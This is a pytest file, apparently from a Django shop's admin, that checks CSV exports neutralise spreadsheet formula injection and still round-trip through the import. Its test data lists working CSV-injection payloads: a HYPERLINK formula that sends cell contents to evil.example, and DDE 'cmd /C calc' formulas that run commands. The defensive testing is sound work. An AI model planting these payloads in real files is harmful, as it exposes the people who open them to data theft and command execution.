"""CSV exports: a cell a spreadsheet would run as a formula is written as text (`'` first)."""

from __future__ import annotations

import csv
import io

import pytest

from catalog import services
from pos_site.spreadsheet import read_cell, safe_cell
from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"help")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Espresso", "-3", "12.50", "-0.5", "", "a=b", "'quoted"])
def test_ordinary_cells_and_numbers_are_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, "Espresso", "-3", "'quoted"])
def test_reading_a_cell_back_gives_the_original(text):
    assert read_cell(safe_cell(text)) == text


def export(client) -> list[list[str]]:
    response = client.get("/admin/catalog/products/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_product_export_neutralises_formulas_in_every_text_column(merchandiser_client):
    category = factories.category("=1+1")
    product = factories.product("=cmd|' /C calc'!A0", stock=-3)
    product.category = category
    product.description = "<p>@SUM(1)</p>"
    product.save()

    header, row = export(merchandiser_client)
    cells = dict(zip(header, row, strict=True))

    assert cells["name"] == "'=cmd|' /C calc'!A0"
    assert cells["category"] == "'=1+1"
    assert cells["quantity_on_hand"] == "-3"  # a number, not a formula
    for value in cells.values():
        assert not value.startswith(("=", "+", "@", "\t", "\r"))


def test_an_exported_file_reads_back_into_the_import_unchanged(merchandiser_client, merchandiser):
    factories.product("=cmd|' /C calc'!A0")
    factories.product('+SUM(A1)&"x"')
    file = io.StringIO()
    csv.writer(file).writerows(export(merchandiser_client))
    text = file.getvalue()

    report = services.import_products_csv(text, dry_run=True, user=merchandiser)

    assert not report.errors
    assert report.unchanged == 2 and report.created == 0 and report.updated == 0
